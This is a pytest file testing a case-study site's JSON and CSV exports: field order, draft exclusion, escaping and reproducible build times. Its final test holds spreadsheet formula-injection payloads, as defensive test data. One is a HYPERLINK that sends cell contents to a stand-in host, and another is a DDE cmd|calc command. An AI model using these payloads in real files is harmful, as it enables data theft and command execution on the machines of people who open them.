"""/case-studies.json (contract §4)."""

from __future__ import annotations

import datetime as dt
import json

import pytest
from pathlib import Path

from conftest import VOCABULARIES, case_study_text, make_project, run_build, study, write

from macros.outputs.exports import build_json_index, build_time
from macros.content.index import build_index
from macros.content.model import School, Trust


def test_document_shape_and_order() -> None:
    index = build_index(
        [
            study("old", "2024-01-01", trust=Trust(name="T"), school=School(name="S")),
            study("new", "2025-01-01"),
            study("draft", "2025-06-01", draft=True),
        ],
        VOCABULARIES,
    )
    document = json.loads(build_json_index(index, dt.datetime(2025, 7, 1, 12, 0, tzinfo=dt.timezone.utc)))
    assert document["generated"] == "2025-07-01T12:00:00+00:00"
    assert document["count"] == 2
    assert [entry["slug"] for entry in document["case_studies"]] == ["new", "old"]
    old = document["case_studies"][1]
    assert old["trust"] == "T" and old["school"] == "S"
    assert old["partnership_models"] == [] and old["programmes"] == []
    assert list(old) == [
        "slug", "url", "title", "type", "date", "summary", "phases", "hubs",
        "partnership_models", "programmes", "trust", "school",
        # The casebook's extensions, after the contract's fields (README, "Take it with you").
        "trust_details", "school_details", "people", "opening",
    ]


def test_the_json_extensions_for_the_comparison_and_the_briefing(tmp_path: Path) -> None:
    """A real build: the vocabularies' names, trust and school details, people and the opening, with nulls
    where a case study says nothing, JSON's own escaping, and no draft."""
    project = make_project(tmp_path / "project")
    write(project, "trust-story.md", case_study_text(
        body="```\n<code>\n```\n\nIt began with a \"question\" & a <5% rise.\n\nMore.\n",
        title="'\"Quotes\" & <5% in a title'", type="trust-model", partnership_models="[hub-work-groups]",
        trust="\n  name: Wessex Learning Trust\n  schools: 12\n  counties: [Dorset, Wiltshire]",
        people="\n  - name: Priya Shah\n    role: Director of maths\n  - name: Sam Lee",
    ))
    write(project, "school-story.md", case_study_text(
        date="2025-02-01", school="\n  name: Élan Primary\n  location: Dorchester\n  pupils: 210\n  fsm_percent: 24.5",
    ))
    write(project, "bare-story.md", case_study_text(date="2025-01-01", body=""))
    write(project, "draft-story.md", case_study_text(date="2025-01-02", draft="true"))
    result = run_build(project)
    assert result.returncode == 0, result.stderr
    text = (project / "site" / "case-studies.json").read_text(encoding="utf-8")
    document = json.loads(text)
    assert document["vocabularies"]["types"]["trust-model"] == VOCABULARIES.types.name("trust-model")
    assert set(document["vocabularies"]) == {"types", "phases", "hubs", "partnership_models", "programmes"}
    assert document["vocabularies"]["hubs"] == {entry.id: entry.name for entry in VOCABULARIES.hubs}
    entries = {entry["slug"]: entry for entry in document["case_studies"]}
    assert sorted(entries) == ["bare-story", "school-story", "trust-story"]  # never a draft
    trust = entries["trust-story"]
    assert trust["title"] == '"Quotes" & <5% in a title' and '\\"Quotes\\" & <5%' in text  # JSON's own escaping
    assert trust["trust_details"] == {"schools": 12, "counties": ["Dorset", "Wiltshire"]}
    assert trust["school_details"] is None
    assert trust["people"] == [{"name": "Priya Shah", "role": "Director of maths"}, {"name": "Sam Lee", "role": None}]
    assert trust["opening"] == 'It began with a "question" & a <5% rise.'  # the first paragraph, not the code
    school = entries["school-story"]
    assert school["trust_details"] is None and school["people"] == []
    assert school["school_details"] == {"location": "Dorchester", "age_range": None, "pupils": 210,
                                        "fsm_percent": 24.5, "setting": None}
    assert school["opening"] == "A short body about the work."
    assert entries["bare-story"]["opening"] == ""


def test_build_time_honours_source_date_epoch(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    assert build_time().isoformat() == "2023-11-14T22:13:20+00:00"


# --- /case-studies.csv ------------------------------------------------------------


def read_csv(text: str) -> list[dict[str, str]]:
    import csv
    import io

    assert text.startswith("\ufeff"), "a byte order mark, so Excel reads UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_has_the_json_fields_in_the_json_order() -> None:
    from macros.outputs.exports import CSV_COLUMNS, build_csv_index

    index = build_index(
        [
            study("old", "2024-01-01", hubs=("jurassic", "mobius"), trust=Trust(name="T"), school=School(name="S")),
            study("new", "2025-01-01", title="Café, \"quotes\"\nand a new line"),
            study("draft", "2025-06-01", draft=True),
        ],
        VOCABULARIES,
    )
    text = build_csv_index(index)
    rows = read_csv(text)
    entries = json.loads(build_json_index(index, dt.datetime(2025, 7, 1, tzinfo=dt.timezone.utc)))["case_studies"]
    assert list(rows[0]) == list(entries[0])[: len(CSV_COLUMNS)] == list(CSV_COLUMNS)  # the contract's fields only
    assert [row["slug"] for row in rows] == ["new", "old"]
    assert rows[0]["title"] == 'Café, "quotes"\nand a new line'
    assert rows[1]["hubs"] == "jurassic; mobius"
    assert rows[1]["trust"] == "T" and rows[0]["trust"] == "" and rows[0]["programmes"] == ""
    assert text.count("\r\n") == 3  # header and two rows end in CRLF (RFC 4180); the quoted title keeps its own line break


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(start: str) -> None:
    from macros.outputs.exports import build_csv_index

    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1, "Click")'
    index = build_index(
        [study("hostile", title=hostile, summary=f"{start}1+1 is a summary", trust=Trust(name=f"{start}cmd|' /C calc'!A0"))],
        VOCABULARIES,
    )
    row = read_csv(build_csv_index(index))[0]
    assert row["title"] == "'" + hostile
    assert row["summary"] == f"'{start}1+1 is a summary"
    assert row["trust"].startswith("'" + start)
    assert row["slug"] == "hostile"  # ordinary cells are left alone
